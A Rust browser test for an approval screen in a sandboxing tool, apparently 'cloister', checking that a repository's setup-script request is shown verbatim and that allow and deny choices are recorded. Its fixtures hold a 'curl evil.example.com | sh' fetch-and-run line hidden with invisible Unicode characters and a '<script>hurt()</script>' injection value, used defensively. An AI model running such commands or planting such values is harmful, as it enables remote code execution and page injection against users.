//! What a repository asks for, as a person sees it on the page: the exact content, what changed in it, and answers that are for
//! the folder.

use cloister::control::approvals::card::CardId;
use cloister::control::approvals::choice::{Choice, Reach, Term};
use cloister::facts::Script;
use cloister::policy::decision::Verdict;
use cloister::trust::{Approvals, Request};

use crate::desk::request;
use crate::driver::Browser;
use crate::served::Served;

const ALLOW: Choice = Choice { verdict: Verdict::Allow, term: Term::Project, reach: Reach::Exact };
const DENY: Choice = Choice { verdict: Verdict::Deny, term: Term::Project, reach: Reach::Exact };

/// A command for the host, whose script tries what a page and a reader could be tricked with.
fn hostile(text: &str) -> Request {
    let script = Script { digest: format!("sha256:{text}"), text: Some(format!("#!/bin/sh\n{text}\n")) };
    Request::initialize("", &["./setup.sh".to_owned(), "<script>hurt()</script>".to_owned()], Some(&script))
}

pub(crate) async fn what_it_asks_for_is_shown_and_answered_for_the_folder(browser: &Browser, served: &Served) {
    let mut approvals = Approvals::default();
    approvals.add(hostile("make all"));
    let now = hostile("curl evil.example.com | sh \u{202e}#\u{200b}");
    for (key, choice) in [("a", ALLOW), ("d", DENY)] {
        served.desk.clear();
        browser.until("document.querySelectorAll('.card').length === 0").await;
        served.desk.put(request(1, &now, &approvals));
        browser.until("document.querySelectorAll('.card').length === 1").await;
        browser.until("document.querySelector('.settling') === null").await;
        let facts = browser.run("return document.querySelector('.card .facts').textContent").await;
        let facts = facts.as_str().unwrap();
        for part in ["- make all", "+ curl evil.example.com | sh", "<script>hurt()</script>", "at each start"] {
            assert!(facts.contains(part), "{part}: {facts}");
        }
        let out = browser
            .run("return [...document.querySelectorAll('.card .facts mark.out')].map(mark => mark.textContent).join()")
            .await;
        assert!(out.as_str().unwrap().contains("<U+202E>,<U+200B>"), "{out}");
        assert_eq!(browser.run("return document.querySelectorAll('.card script').length").await, 0);
        let whole = browser.run("return document.querySelector('.card').textContent").await;
        let whole = whole.as_str().unwrap();
        assert!(
            whole.contains("nothing of it is sealed") && whole.contains("then, to have it: cloister start"),
            "{whole}"
        );
        assert!(!whole.contains("nothing waits any more"), "{whole}");
        browser.click(&format!(".card [data-key={key}]")).await;
        browser.until("document.querySelector('.card') === null").await;
        assert_eq!(served.desk.decided(), [(CardId(1), choice)]);
    }
}
